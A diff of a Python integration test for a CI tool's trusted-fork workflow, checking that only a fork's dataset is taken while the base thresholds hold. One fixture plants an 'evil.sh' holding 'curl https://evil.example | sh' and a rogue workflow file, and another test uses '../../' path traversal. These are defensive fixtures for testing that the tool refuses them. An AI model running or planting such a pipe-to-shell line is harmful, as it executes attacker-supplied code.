@@ -17,7 +17,6 @@ import os
 import re
 import subprocess
 import sys
-from collections.abc import Iterator
 from pathlib import Path
 from typing import Any
 
@@ -26,28 +25,12 @@ import yaml
 from click.testing import CliRunner
 
 from ground_gate.cli import cli
-from tests.integration import fake_openai
 from tests.integration.fake_github import FakeGitHub
-from tests.integration.support_bot import ROWS, rate
+from tests.integration.support_bot import CONFIG, ROWS
 
 WORKFLOW = Path(__file__).parents[2] / "examples" / "workflows" / "ground-gate-fork-trusted.yml"
 TOKEN = "ghs_trusted_token"
 PR = 21
-BASE_CONFIG = """\
-version: 1
-judge:
-  provider: openai
-  model: fake-model
-  max_retries: 0
-  cache_dir: null
-datasets:
-  - name: support-bot
-    path: data/support.jsonl
-metrics:
-  rating: {}
-thresholds:
-  rating: {min: 0.8}
-"""
 YQ = """\
 import sys, yaml
 assert sys.argv[1:3] == ["-r", ".datasets[].path"], sys.argv
@@ -76,14 +59,14 @@ def repos(tmp_path: Path) -> dict[str, Any]:
     git(tmp_path, "init", "-q", "-b", "main", str(origin))
     git(origin, "config", "uploadpack.allowReachableSHA1InWant", "true")  # GitHub allows it
     (origin / "data").mkdir()
-    (origin / "ground-gate.yml").write_text(BASE_CONFIG)
+    (origin / "ground-gate.yml").write_text(CONFIG)
     (origin / "data" / "support.jsonl").write_text(jsonl(ROWS[:1]))  # base: grounded only
     git(origin, "add", "-A")
     git(origin, "commit", "-q", "-m", "base")
     base = git(origin, "rev-parse", "HEAD")
     git(origin, "checkout", "-q", "-b", "fork")
     (origin / "data" / "support.jsonl").write_text(jsonl(ROWS))  # adds the invented answer
-    (origin / "ground-gate.yml").write_text(BASE_CONFIG.replace("{min: 0.8}", "{min: 0.1}"))
+    (origin / "ground-gate.yml").write_text(CONFIG.replace("{min: 0.8}", "{min: 0.1}"))
     (origin / "evil.sh").write_text("curl https://evil.example | sh\n")
     (origin / ".github" / "workflows").mkdir(parents=True)
     (origin / ".github" / "workflows" / "pwn.yml").write_text("on: push\n")
@@ -97,16 +80,8 @@ def repos(tmp_path: Path) -> dict[str, Any]:
 
 
 @pytest.fixture
-def judge() -> Iterator[Any]:
-    with fake_openai.FakeOpenAI(handler=rate) as server:
-        yield server
-
-
-@pytest.fixture
-def github() -> Iterator[FakeGitHub]:
-    with FakeGitHub(token=TOKEN) as server:
-        yield server
-    assert server.violations == []
+def github_token() -> str:
+    return TOKEN
 
 
 def steps() -> dict[str, dict[str, Any]]:
@@ -204,7 +179,7 @@ def test_trusted_fork_verdict__the_forks_data_with_the_base_thresholds(
     assert taken.returncode == 0, taken.stderr
     assert taken.stdout.splitlines()[-1] == "took data/support.jsonl from the pull request"
     assert (workspace / "data" / "support.jsonl").read_text() == jsonl(ROWS)  # the fork's data
-    assert (workspace / "ground-gate.yml").read_text() == BASE_CONFIG  # the base's thresholds
+    assert (workspace / "ground-gate.yml").read_text() == CONFIG  # the base's thresholds
     assert not (workspace / "evil.sh").exists()
     assert not (workspace / ".github").exists()
     assert git(workspace, "status", "--porcelain") == "M data/support.jsonl"
@@ -256,7 +231,7 @@ def test_trusted_fork_verdict__a_dataset_path_outside_the_repository_is_refused(
 ) -> None:
     """The paths come from the base config; one leading out of the repository is refused."""
     origin = repos["origin"]
-    (origin / "ground-gate.yml").write_text(BASE_CONFIG.replace("data/", "../../"))
+    (origin / "ground-gate.yml").write_text(CONFIG.replace("data/", "../../"))
     git(origin, "commit", "-q", "-am", "base: a path outside")
     repos = {**repos, "base": git(origin, "rev-parse", "HEAD")}
     workspace = checkout_base(tmp_path, repos)
